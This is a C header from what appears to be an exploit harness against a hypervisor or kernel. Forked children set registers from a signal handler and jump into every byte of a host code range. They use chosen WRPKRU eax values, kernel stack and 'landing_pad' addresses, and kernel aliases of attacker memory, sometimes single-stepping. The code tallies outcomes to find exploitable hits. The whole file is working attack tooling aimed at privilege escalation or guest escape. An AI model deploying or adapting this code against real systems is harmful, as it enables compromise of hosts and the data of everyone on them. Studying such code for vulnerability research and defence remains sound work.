/*
 * Jumps to every byte of a range of the host's code, each by a child, with registers as a guest may choose them: what a WRPKRU takes
 * from eax, stacks that are nobody's or the kernel's, pointers into the kernel's alias of the attacker's own memory; and the same
 * step by step, with the trap flag set.
 */
#ifndef JUMP_H
#define JUMP_H

#include <sys/time.h>

#include "attack.h"

#define TRAP_FLAG 0x100
#define STEPS 300 /* more than any of the ranges has instructions */
#define CHILD_USEC 10000 /* of CPU time: who goes round in a circle */

static uint64_t payload[PAGE / 8] __attribute__((aligned(PAGE)));
static char handlers_stack[65536];
static uintptr_t stacks[5], target;
static uint64_t target_eax, target_rsp, others;
static int stepping;

static void set_registers(int signal, siginfo_t *info, void *context)
{
	greg_t *r = ((ucontext_t *)context)->uc_mcontext.gregs;
	static int steps;

	(void)info;
	if (signal == SIGTRAP && ++steps > STEPS)
		_exit(4);
	if (signal == SIGTRAP)
		return;
	for (int i = REG_R8; i <= REG_RBX; i++)
		r[i] = (greg_t)others;
	r[REG_RAX] = (greg_t)target_eax;
	r[REG_RCX] = r[REG_RDX] = 0;
	r[REG_RSP] = (greg_t)target_rsp;
	r[REG_RIP] = (greg_t)target;
	if (stepping)
		r[REG_EFL] |= TRAP_FLAG;
}

static _Noreturn void jump(void)
{
	struct itimerval limit = { .it_value.tv_usec = CHILD_USEC };
	stack_t stack = { .ss_sp = handlers_stack, .ss_size = sizeof handlers_stack };
	struct sigaction action = { .sa_sigaction = set_registers, .sa_flags = SA_SIGINFO | SA_ONSTACK };

	sigaltstack(&stack, NULL);
	setitimer(ITIMER_VIRTUAL, &limit, NULL);
	sigaction(SIGTRAP, &action, NULL);
	sigaction(SIGUSR1, &action, NULL);
	raw(SYS_kill, getpid(), SIGUSR1, 0, 0, 0, 0);
	_exit(3);
}

/* Shared with the runners, and with those who go on after them. */
static struct { int count, ended, killed; } *tally;

static void try_one(void)
{
	int status;
	pid_t child = fork();

	if (child == 0)
		jump();
	if (child < 0 || waitpid(child, &status, 0) != child)
		return;
	tally->ended++;
	tally->killed += WIFSIGNALED(status);
}

#define VALUES (sizeof values / sizeof *values)
#define STACKS (sizeof stacks / sizeof *stacks)

/* From where the one before was hit. */
static void try_all(uintptr_t from, uintptr_t end)
{
	static const uint32_t values[] = { 0, 0x55555550, 0xffffffff };

	while ((target = from + (unsigned)tally->count / (VALUES * STACKS)) < end) {
		unsigned n = (unsigned)tally->count++;

		target_eax = values[n / STACKS % VALUES];
		target_rsp = stacks[n % STACKS];
		stepping = (n >> 1 ^ n / 30) & 1;
		others = (n & 1) ? alias_of(payload) : (uintptr_t)payload;
		try_one();
	}
}

/*
 * By a runner: which process's kernel stack is written to is chance, and at none, only there, it may be his own. Another goes on
 * then; and he, where it is ours.
 */
static int jump_everywhere(uintptr_t from, uintptr_t end)
{
	int status = 0, hit = -1;
	pid_t runner;

	tally = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (tally == MAP_FAILED)
		return 2;
	for (size_t i = 0; i < PAGE / 8; i++)
		payload[i] = alias_of(payload);
	stacks[0] = (uintptr_t)(payload + PAGE / 16);
	stacks[1] = 0;
	stacks[2] = at("kernel_stack");
	stacks[3] = at("landing_pad");
	stacks[4] = alias_of(payload + PAGE / 16);
	do {
		hit++;
		if ((runner = fork()) == 0) {
			try_all(from, end);
			_exit(0);
		}
	} while (runner > 0 && waitpid(runner, &status, 0) == runner && WIFSIGNALED(status));
	say("%d of %d jumps ended\n", tally->ended, tally->count);
	say("%d killed\n", tally->killed);
	return hit || !tally->count || tally->ended != tally->count || tally->killed < tally->count / 2;
}

#endif
